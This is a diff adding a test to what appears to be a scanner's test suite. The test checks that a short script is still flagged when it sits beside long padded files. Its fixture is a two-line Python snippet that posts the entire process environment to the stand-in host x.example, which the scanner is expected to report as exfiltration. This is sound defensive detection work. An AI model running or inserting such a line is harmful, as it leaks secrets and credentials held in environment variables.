@@ -116,6 +116,19 @@ test("a text that hides itself again and again is read a few times", () => {
   expect(signalsIn(text, "python")).toEqual(["EXE-001"]);
 });
 
+test("long scripts beside a short one do not hide it", () => {
+  const long = ["a.py", "b.py", "c.py"].map((path): Script => ({
+    path,
+    text: "# nothing\n".repeat(39_000),
+    language: "python",
+  }));
+  const text = "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))";
+  const short: Script = { path: "z.py", text, language: "python" };
+  expect(seenIn([...long, short])).toEqual([
+    ["EXF-001 z.py:2", "sends the environment, read in line 2, to x.example"],
+  ]);
+});
+
 const tokens = [
   "import os",
   "requests.post(",
